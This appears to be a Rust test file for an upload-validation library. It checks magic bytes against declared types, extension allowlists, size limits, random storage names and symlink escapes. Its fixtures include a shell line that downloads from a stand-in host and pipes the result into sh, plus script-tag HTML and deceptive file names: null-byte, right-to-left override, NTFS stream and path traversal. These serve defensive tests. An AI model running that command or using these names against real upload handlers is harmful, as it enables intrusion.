//! Uploads: files whose extension or declared type lies about their content, sizes,
//! extensions, names built to fool a check, and the generated storage names.

#![cfg(feature = "upload")]

use std::collections::HashSet;
use std::fs::OpenOptions;
use std::io::Write;

use secure::sink::path::PathJail;
use secure::upload::{FileKind, StorageName, Upload, UploadError, UploadPolicy};

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n";
const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://evil.example/x | sh\n";
const EXE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";
const TEXT: &[u8] = "name,city\nAda,Zürich\n".as_bytes();

fn policy() -> UploadPolicy {
    UploadPolicy::new(1024)
        .allow(FileKind::PNG)
        .allow(FileKind::JPEG)
        .allow(FileKind::PDF)
        .allow(FileKind::TEXT)
        .allow(FileKind::CSV)
}

fn check(name: &str, declared: Option<&str>, bytes: &[u8]) -> Result<FileKind, UploadError> {
    policy()
        .check(&Upload::new(name, declared, bytes))
        .map(|checked| checked.kind())
}

#[test]
fn honest_files_are_accepted_as_their_kind() {
    assert_eq!(
        check("avatar.png", Some("image/png"), PNG),
        Ok(FileKind::PNG)
    );
    assert_eq!(
        check("Photo.JPG", Some("image/jpg"), JPEG),
        Ok(FileKind::JPEG)
    );
    assert_eq!(
        check("photo.jpeg", Some("IMAGE/JPEG"), JPEG),
        Ok(FileKind::JPEG)
    );
    assert_eq!(
        check("report.pdf", Some("application/pdf"), PDF),
        Ok(FileKind::PDF)
    );
    assert_eq!(
        check("cities.csv", Some("text/csv; charset=utf-8"), TEXT),
        Ok(FileKind::CSV)
    );
    assert_eq!(check("notes.txt", None, TEXT), Ok(FileKind::TEXT));
    assert_eq!(
        check("avatar.png", Some("application/octet-stream"), PNG),
        Ok(FileKind::PNG)
    );
}

#[test]
fn a_png_named_and_declared_as_a_pdf_is_refused() {
    assert_eq!(
        check("invoice.pdf", Some("application/pdf"), PNG),
        Err(UploadError::ContentMismatch {
            expected: "application/pdf",
            detected: Some("image/png"),
        })
    );
}

#[test]
fn a_script_declared_as_an_image_is_refused() {
    assert_eq!(
        check("cat.png", Some("image/png"), SCRIPT),
        Err(UploadError::ContentMismatch {
            expected: "image/png",
            detected: Some("text/x-shellscript"),
        })
    );
    assert_eq!(
        check("cat.jpg", Some("image/jpeg"), EXE),
        Err(UploadError::ContentMismatch {
            expected: "image/jpeg",
            detected: Some("application/vnd.microsoft.portable-executable"),
        })
    );
}

#[test]
fn a_declared_type_that_contradicts_the_extension_is_refused() {
    assert_eq!(
        check("avatar.png", Some("application/pdf"), PNG),
        Err(UploadError::DeclaredTypeMismatch {
            expected: "image/png"
        })
    );
    assert_eq!(
        check("cat.png", Some("text/x-shellscript"), SCRIPT),
        Err(UploadError::DeclaredTypeMismatch {
            expected: "image/png"
        })
    );
}

#[test]
fn text_kinds_refuse_binary_and_recognised_content() {
    assert_eq!(
        check("notes.txt", Some("text/plain"), PNG),
        Err(UploadError::ContentMismatch {
            expected: "text/plain",
            detected: Some("image/png"),
        })
    );
    assert_eq!(
        check("notes.txt", Some("text/plain"), SCRIPT),
        Err(UploadError::ContentMismatch {
            expected: "text/plain",
            detected: Some("text/x-shellscript"),
        })
    );
    assert_eq!(
        check("notes.txt", Some("text/plain"), b"abc\0def"),
        Err(UploadError::ContentMismatch {
            expected: "text/plain",
            detected: None,
        })
    );
    assert_eq!(
        check("notes.txt", Some("text/plain"), b"caf\xe9"),
        Err(UploadError::ContentMismatch {
            expected: "text/plain",
            detected: None,
        })
    );
    // A byte order mark in front does not hide what follows it.
    for content in [
        &b"\xEF\xBB\xBF<!DOCTYPE html><script>alert(1)</script>"[..],
        b"\xEF\xBB\xBF<html><script>alert(1)</script></html>",
    ] {
        assert_eq!(
            check("notes.txt", None, content),
            Err(UploadError::ContentMismatch {
                expected: "text/plain",
                detected: Some("text/html"),
            })
        );
    }
    let marked = "\u{FEFF}name,city\nAda,Z\u{fc}rich\n".as_bytes();
    assert_eq!(check("notes.txt", None, marked), Ok(FileKind::TEXT));
}

#[test]
fn sizes_are_checked_at_the_limit() {
    let policy = UploadPolicy::new(100).allow(FileKind::TEXT);
    let at_limit = vec![b'a'; 100];
    let over = vec![b'a'; 101];

    assert!(policy.check(&Upload::new("a.txt", None, &at_limit)).is_ok());
    assert_eq!(
        policy
            .check(&Upload::new("a.txt", None, &over))
            .unwrap_err(),
        UploadError::TooLarge { max_bytes: 100 }
    );
    assert_eq!(
        policy.check(&Upload::new("a.txt", None, b"")).unwrap_err(),
        UploadError::Empty
    );
}

#[test]
fn extensions_outside_the_allowlist_are_refused() {
    let allowed = vec!["png", "jpg", "jpeg", "pdf", "txt", "csv"];
    for name in [
        "shell.php",
        "archive.zip",
        "page.html",
        "image.svg",
        "run.exe",
        "a.png.php",
    ] {
        assert_eq!(
            check(name, None, TEXT),
            Err(UploadError::DisallowedExtension {
                allowed: allowed.clone()
            }),
            "{name}"
        );
    }
    assert_eq!(
        check("README", None, TEXT),
        Err(UploadError::MissingExtension)
    );
    assert_eq!(check(".png", None, PNG), Err(UploadError::MissingExtension));
    assert_eq!(
        check("a.p-g", None, PNG),
        Err(UploadError::MissingExtension)
    );
}

#[test]
fn names_built_to_fool_a_check_are_refused() {
    for name in [
        "shell.php\0.png",
        "invoice\u{202E}fdp.png",
        "log\u{1b}[31m.png",
        "report.png.",
        "report.png ",
        "file.png::$DATA",
        "../../etc/cron.d/x.png",
        "..\\..\\win.png",
        "a\u{85}b.png",
        "photo\u{200B}.png",
        "photo\u{2060}.png",
        "",
    ] {
        assert_eq!(
            check(name, Some("image/png"), PNG),
            Err(UploadError::SuspiciousName),
            "{name:?}"
        );
    }
}

#[test]
fn a_file_whose_name_has_two_extensions_is_judged_by_the_last() {
    assert_eq!(
        check("photo.php.png", Some("image/png"), PNG),
        Ok(FileKind::PNG)
    );
    assert!(check("photo.png.php", Some("image/png"), PNG).is_err());
}

#[test]
fn storage_names_are_random_and_ignore_the_client_name() {
    let policy = policy();
    let mut names = HashSet::new();
    for _ in 0..200 {
        let checked = policy
            .check(&Upload::new("Avatar Final.PNG", Some("image/png"), PNG))
            .unwrap();
        let name = checked.storage_name().as_str().to_owned();
        let (stem, extension) = name.split_once('.').unwrap();
        assert_eq!(extension, "png");
        assert_eq!(stem.len(), 32);
        assert!(
            stem.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
        );
        assert!(!name.to_lowercase().contains("avatar"));
        names.insert(name);
    }
    assert_eq!(names.len(), 200);

    let jpeg = policy.check(&Upload::new("x.jpeg", None, JPEG)).unwrap();
    assert!(jpeg.storage_name().as_str().ends_with(".jpg"));
    assert_eq!(jpeg.size(), JPEG.len() as u64);
}

/// The promise of `StorageName`: whatever the kind, the generated name is one plain file
/// name directly under the jail's root, and a file can be created there.
#[test]
fn generated_storage_names_are_accepted_by_a_path_jail() {
    const MP4: FileKind = FileKind::signature("video/mp4", &["mp4", "m4v"]);
    let dir = tempfile::tempdir().unwrap();
    let jail = PathJail::new(dir.path()).unwrap();
    let kinds = [
        FileKind::PNG,
        FileKind::JPEG,
        FileKind::GIF,
        FileKind::WEBP,
        FileKind::PDF,
        FileKind::ZIP,
        FileKind::TEXT,
        FileKind::CSV,
        MP4,
    ];

    for kind in kinds {
        for _ in 0..20 {
            let name = StorageName::generate(kind).unwrap();
            let path = name.path_in(&jail).unwrap();
            assert_eq!(path.as_path(), jail.root().join(name.as_str()), "{name}");
            assert_eq!(jail.join(name.as_str()).unwrap().as_path(), path.as_path());

            let mut file = jail
                .open_with(
                    name.as_str(),
                    OpenOptions::new().write(true).create_new(true),
                )
                .unwrap();
            file.write_all(b"stored").unwrap();
        }
    }
    let stored = std::fs::read_dir(jail.root()).unwrap().count();
    assert_eq!(stored, kinds.len() * 20);
}

#[cfg(unix)]
#[test]
fn a_storage_name_is_refused_where_a_link_of_that_name_leads_out() {
    let outside = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let jail = PathJail::new(dir.path()).unwrap();
    let name = StorageName::generate(FileKind::PNG).unwrap();
    std::os::unix::fs::symlink(outside.path(), jail.root().join(name.as_str())).unwrap();

    assert_eq!(
        name.path_in(&jail).unwrap_err(),
        secure::sink::path::PathError::Symlink
    );
}

#[test]
fn errors_never_repeat_what_the_client_sent() {
    let canary = "CANARY-upload-77";
    let cases = [
        check(&format!("{canary}.php"), None, TEXT),
        check(&format!("{canary}\0.png"), None, PNG),
        check(&format!("{canary}.png"), Some(canary), PNG),
        check(
            &format!("{canary}.png"),
            Some("image/png"),
            canary.as_bytes(),
        ),
    ];
    for case in cases {
        let error = case.unwrap_err();
        assert!(!error.to_string().contains("CANARY"), "{error}");
        assert!(!format!("{error:?}").contains("CANARY"), "{error:?}");
    }
    let upload = Upload::new(canary, Some(canary), canary.as_bytes());
    assert!(!format!("{upload:?}").contains("CANARY"));
}
